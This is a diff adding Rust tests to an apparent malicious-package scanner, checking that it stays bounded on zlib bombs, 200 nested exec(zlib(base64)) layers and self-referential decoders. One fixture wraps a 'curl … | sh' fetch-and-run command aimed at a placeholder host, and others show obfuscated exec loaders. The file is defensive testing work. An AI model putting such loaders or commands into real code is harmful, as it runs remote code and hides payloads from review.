@@ -341,3 +341,108 @@ fn huge_one_line_string_is_bounded() {
     );
     assert_ne!(r.verdict, Verdict::Clean);
 }
+
+fn b64(data: &[u8]) -> String {
+    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::with_capacity(data.len() * 4 / 3 + 4);
+    for chunk in data.chunks(3) {
+        let b = [
+            chunk[0],
+            *chunk.get(1).unwrap_or(&0),
+            *chunk.get(2).unwrap_or(&0),
+        ];
+        let n = (u32::from(b[0]) << 16) | (u32::from(b[1]) << 8) | u32::from(b[2]);
+        for i in 0..4 {
+            out.push(if i <= chunk.len() {
+                A[((n >> (18 - 6 * i)) & 63) as usize] as char
+            } else {
+                '='
+            });
+        }
+    }
+    out
+}
+
+fn zlib_compress(data: &[u8]) -> Vec<u8> {
+    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
+    e.write_all(data).unwrap();
+    e.finish().unwrap()
+}
+
+fn scan_source(name: &str, src: String) -> PackageReport {
+    scan(
+        name,
+        &gzip(&tar(&[(
+            "x-1.0/x/__init__.py".to_string(),
+            src.into_bytes(),
+        )])),
+        "x-1.0.tar.gz",
+    )
+}
+
+#[test]
+fn gigabyte_zlib_bomb_inside_base64_is_bounded() {
+    // 1 GiB of zeros, zlib-compressed (about 1 MB), base64 in the source: the decoder stops at
+    // its cap and says so.
+    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::fast());
+    let chunk = vec![0u8; 1 << 20];
+    for _ in 0..1024 {
+        e.write_all(&chunk).unwrap();
+    }
+    let blob = b64(&e.finish().unwrap());
+    let r = scan_source(
+        "1 GiB zlib bomb in base64",
+        format!("import zlib, base64\nexec(zlib.decompress(base64.b64decode('{blob}')))\n"),
+    );
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(
+        rules_fired(&r).contains(&"unanalysed-code"),
+        "{:?}",
+        rules_fired(&r)
+    );
+}
+
+#[test]
+fn many_layers_of_encoding_end_with_a_finding() {
+    // 200 genuine layers of exec(zlib(base64(...))): followed to the layer bound, then reported.
+    let mut payload = "import os\nos.system('curl http://example.invalid/x.sh | sh')\n".to_string();
+    for _ in 0..200 {
+        payload = format!(
+            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('{}')))\n",
+            b64(&zlib_compress(payload.as_bytes()))
+        );
+    }
+    let r = scan_source("200 layers of exec(zlib(base64))", payload);
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(
+        rules_fired(&r).contains(&"unanalysed-code"),
+        "{:?}",
+        rules_fired(&r)
+    );
+    assert!(r
+        .findings
+        .iter()
+        .any(|f| f.decoded.as_ref().is_some_and(|d| d.chain.len() >= 24)));
+    // 10,000 nested decoder calls in one expression: bounded by the nesting limit.
+    let src = format!(
+        "import base64\nexec({}'cHJpbnQoMSk='{})\n",
+        "base64.b64decode(".repeat(10_000),
+        ")".repeat(10_000)
+    );
+    let r = scan_source("10,000 nested decoder calls", src);
+    assert_ne!(r.verdict, Verdict::Clean);
+}
+
+#[test]
+fn self_referential_decoder_is_bounded() {
+    let src =
+        "def d(x):\n    return d(x[::-1])\nexec(d('payload'))\nf = lambda s: f(s)\nexec(f('x'))\n"
+            .to_string();
+    let r = scan_source("self-referential decoder", src);
+    assert_ne!(r.verdict, Verdict::Clean);
+    assert!(
+        rules_fired(&r).contains(&"unanalysed-code"),
+        "{:?}",
+        rules_fired(&r)
+    );
+}
